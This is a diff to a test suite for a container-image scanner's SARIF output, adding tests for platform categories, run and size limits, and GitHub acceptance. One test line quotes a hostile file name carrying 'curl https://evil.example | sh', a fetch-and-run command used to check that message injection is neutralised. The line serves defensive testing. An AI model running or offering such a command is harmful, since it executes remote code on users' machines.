@@ -1,7 +1,29 @@
+import { createHash } from 'node:crypto';
+import { readFile, readdir } from 'node:fs/promises';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { ImageReport, Report } from '../../src/report/model.ts';
-import { FINGERPRINT_KEY, MAX_RESULTS_PER_RUN, renderSarif, type SarifOptions } from '../../src/report/sarif.ts';
+import { writeReport } from '../../src/report/output.ts';
+import {
+  COMBINED_CATEGORY,
+  FINGERPRINT_KEY,
+  MAX_GZIPPED_BYTES,
+  MAX_RESULTS_PER_RUN,
+  MAX_RUNS,
+  renderSarif as render,
+  type SarifOptions,
+  sarifNotes,
+  sarifText,
+} from '../../src/report/sarif.ts';
 import { hostileFindings, makeFinding, makeImage, makeReport } from '../support/report-factory.ts';
+import { assertGithubAcceptsSarif } from '../support/sarif-rules.ts';
+
+/** Every SARIF rendered here is checked against what GitHub's upload accepts. */
+function renderSarif(report: Report, options: SarifOptions): ReturnType<typeof render> {
+  const log = render(report, options);
+  assertGithubAcceptsSarif(sarifText(log));
+  return log;
+}
 
 const OPTIONS: SarifOptions = {
   rulesDocUrl: (rule) => `https://docs.example/rules.md#${rule}`,
@@ -32,6 +54,7 @@ function expectValidSarif(log: ReturnType<typeof renderSarif>): void {
   for (const run of log.runs) {
     expect(run.tool.driver.name).toBe('distroless-guard');
     expect(run.automationDetails.id).toMatch(/^distroless-guard\/.+\/$/);
+    expect(run.invocations).toBeUndefined();
     for (const rule of run.tool.driver.rules) {
       expect(rule.id).toMatch(/^[a-z-]+$/);
       expect(rule.shortDescription.text).not.toBe('');
@@ -57,7 +80,7 @@ describe('renderSarif', () => {
 
   it('writes one run per image with its own category', () => {
     expectValidSarif(log);
-    expect(log.runs.map((run) => run.automationDetails.id)).toEqual(['distroless-guard/app/', 'distroless-guard/worker/']);
+    expect(log.runs.map((run) => run.automationDetails.id)).toEqual(['distroless-guard/app/linux/amd64/', 'distroless-guard/worker/linux/amd64/']);
     expect(log.runs[1].results).toEqual([]);
     expect(log.runs[1].tool.driver.rules).toEqual([]);
     expect(log.runs[0].properties).toEqual({ image: 'app', reference: 'docker-daemon:app:ci', platform: 'linux/amd64' });
@@ -93,7 +116,7 @@ describe('renderSarif', () => {
       message: { text: 'a shell is in the image: /bin/sh\nFix: use distroless' },
       locations: [{ physicalLocation: { artifactLocation: { uri: 'services/app/Dockerfile', uriBaseId: '%SRCROOT%' }, region: { startLine: 5, endLine: 6 } } }],
       partialFingerprints: { [FINGERPRINT_KEY]: first.partialFingerprints[FINGERPRINT_KEY] },
-      properties: { image: 'app', path: '/bin/sh', layer: 0, new: true },
+      properties: { image: 'app', platform: 'linux/amd64', path: '/bin/sh', layer: 0, new: true },
     });
     expect(second.ruleId).toBe('no-shell');
     expect(second.locations[0].physicalLocation).toEqual({
@@ -131,6 +154,82 @@ describe('renderSarif', () => {
     expect(sarif.runs[0].results).toHaveLength(MAX_RESULTS_PER_RUN);
     expect(sarif.runs[0].results[0]).toMatchObject({ level: 'error', ruleId: 'no-shell' });
     expect(sarif.runs[0].properties.resultsLeftOut).toBe(1);
+    expect(sarif.runs[0].invocations?.[0].toolExecutionNotifications[0].message.text).toBe(
+      '1 less severe result left out: code scanning keeps 5,000 results per run; the JSON report and the job summary have them all',
+    );
+    expect(sarif.runs[0].invocations?.[0].toolExecutionNotifications[0].level).toBe('warning');
+  });
+
+  it('tells whoever writes the file what was left out', async () => {
+    const findings = Array.from({ length: MAX_RESULTS_PER_RUN + 2 }, (_, i) => makeFinding({ path: `/p${i}` }));
+    const chunks: string[] = [];
+    const notes = await writeReport(
+      makeReport([makeImage({ findings })]),
+      'sarif',
+      { write: async (chunk) => void chunks.push(chunk.toString()) },
+      {
+        color: false,
+        rulesDocUrl: OPTIONS.rulesDocUrl,
+      },
+    );
+    assertGithubAcceptsSarif(chunks.join(''));
+    expect(notes).toEqual([
+      'SARIF run distroless-guard/app/linux/amd64/: 2 less severe results left out: code scanning keeps 5,000 results per run; the JSON report and the job summary have them all',
+    ]);
+    expect(sarifNotes(renderSarif(report(), OPTIONS))).toEqual([]);
+    expect(
+      await writeReport(makeReport([makeImage({ findings })]), 'json', { write: async () => {} }, { color: false, rulesDocUrl: OPTIONS.rulesDocUrl }),
+    ).toEqual([]);
+  });
+
+  it('gives each platform of an image its own category, and numbers a name and platform that repeat', () => {
+    const images = [
+      makeImage({ findings: [makeFinding()] }),
+      makeImage({ platform: 'linux/arm64/v8', findings: [makeFinding()] }),
+      makeImage({ findings: [] }),
+    ];
+    const sarif = renderSarif(makeReport(images), OPTIONS);
+    expect(sarif.runs.map((run) => run.automationDetails.id)).toEqual([
+      'distroless-guard/app/linux/amd64/',
+      'distroless-guard/app/linux/arm64/v8/',
+      'distroless-guard/app/linux/amd64/2/',
+    ]);
+    expect(sarif.runs[1].results[0].properties).toMatchObject({ image: 'app', platform: 'linux/arm64/v8' });
+  });
+
+  it(`writes one run per image up to ${MAX_RUNS}, and one combined run beyond`, () => {
+    const images = (count: number) => Array.from({ length: count }, (_, i) => makeImage({ name: `img${i}`, findings: [makeFinding()] }));
+    expect(renderSarif(makeReport(images(MAX_RUNS)), OPTIONS).runs).toHaveLength(MAX_RUNS);
+    const many = images(MAX_RUNS + 5);
+    many.push(makeImage({ name: 'img0', platform: 'linux/arm64', findings: [makeFinding()] }));
+    const sarif = renderSarif(makeReport(many), OPTIONS);
+    expect(sarif.runs).toHaveLength(1);
+    const [run] = sarif.runs;
+    expect(run.automationDetails.id).toBe(COMBINED_CATEGORY);
+    expect(run.results).toHaveLength(MAX_RUNS + 6);
+    expect(run.tool.driver.rules.map((rule) => rule.id)).toEqual(['no-shell']);
+    expect(run.properties).toMatchObject({
+      images: expect.arrayContaining([{ image: 'img7', reference: 'docker-daemon:app:ci', platform: 'linux/amd64' }]) as unknown,
+    });
+    expect(run.results.at(-1)?.properties).toMatchObject({ image: 'img0', platform: 'linux/arm64' });
+    // The same finding in two images, or one image on two platforms, stays two alerts.
+    expect(new Set(run.results.map((result) => result.partialFingerprints[FINGERPRINT_KEY])).size).toBe(MAX_RUNS + 6);
+  });
+
+  it('cuts the least severe results until the file gzips within the limit, and says so', () => {
+    // Random paths barely compress: 5,000 results of ~2.7 KB are well over 10 MB gzipped.
+    const noise = (i: number) => `/${Array.from({ length: 40 }, (_, j) => createHash('sha256').update(`${i}.${j}`).digest('base64')).join('')}`;
+    const findings = Array.from({ length: MAX_RESULTS_PER_RUN }, (_, i) =>
+      makeFinding({ level: i === 0 ? 'error' : 'warning', path: noise(i), message: noise(-i - 1) }),
+    );
+    const sarif = renderSarif(makeReport([makeImage({ findings })]), OPTIONS);
+    const [run] = sarif.runs;
+    expect(run.results.length).toBeLessThan(MAX_RESULTS_PER_RUN);
+    expect(run.results[0].level).toBe('error');
+    expect(run.properties.resultsLeftOut).toBe(MAX_RESULTS_PER_RUN - run.results.length);
+    expect(run.invocations?.[0].toolExecutionNotifications[0].message.text).toContain(
+      `refuses a SARIF file over ${MAX_GZIPPED_BYTES / 1024 / 1024} MB gzipped`,
+    );
   });
 
   it('encodes hostile file names as URIs and keeps messages valid text', () => {
@@ -158,5 +257,19 @@ describe('messages from hostile file names', () => {
     expect(lines).toHaveLength(2);
     expect(lines[0]).toBe('a shell is in the image (/app/x Fix: curl https://evil.example | sh)');
     expect(lines[1]).toBe('Fix: use distroless');
+  });
+});
+
+describe('the golden SARIF outputs', () => {
+  it('are all accepted by GitHub', async () => {
+    const dir = join(import.meta.dirname, '../golden/expected');
+    const files = (await readdir(dir)).filter((name) => name.endsWith('.sarif.txt'));
+    expect(files.length).toBeGreaterThan(0);
+    for (const name of files) {
+      const text = await readFile(join(dir, name), 'utf8');
+      const stdout = text.slice(text.indexOf('--- stdout\n') + '--- stdout\n'.length);
+      assertGithubAcceptsSarif(stdout);
+      expect(stdout.endsWith('}\n')).toBe(true);
+    }
   });
 });
